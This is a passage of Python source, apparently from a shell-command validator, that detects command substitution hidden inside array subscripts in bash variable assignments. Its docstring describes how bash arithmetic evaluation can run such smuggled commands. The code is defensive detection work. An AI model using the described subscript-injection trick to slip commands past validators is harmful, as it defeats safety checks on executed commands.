    evaluated as arithmetic, and that happens in many places a reader cannot follow
    (`let`, `(( ))`, `[[ x -gt 0 ]]`, `${a[x]}`, `${s:x:1}`, an integer variable): so they
    are judged where the value is stored."""
    values = list(command.env.values())
    if command.argv and command.argv[0] in _DECLARERS:
        values += [word.split("=", 1)[1] for word in command.argv[1:]
                   if "=" in word and not word.startswith("-")]
    found: list[str] = []
    for value in values:
        start = value.find("[")
        while start >= 0 and len(found) < 8:
            end = value.find("]", start)
            inside = value[start + 1:] if end < 0 else value[start + 1:end]
            if "$(" in inside or "`" in inside:
                found += substitutions(value[start + 1:])
                break
            start = value.find("[", start + 1)
    return found

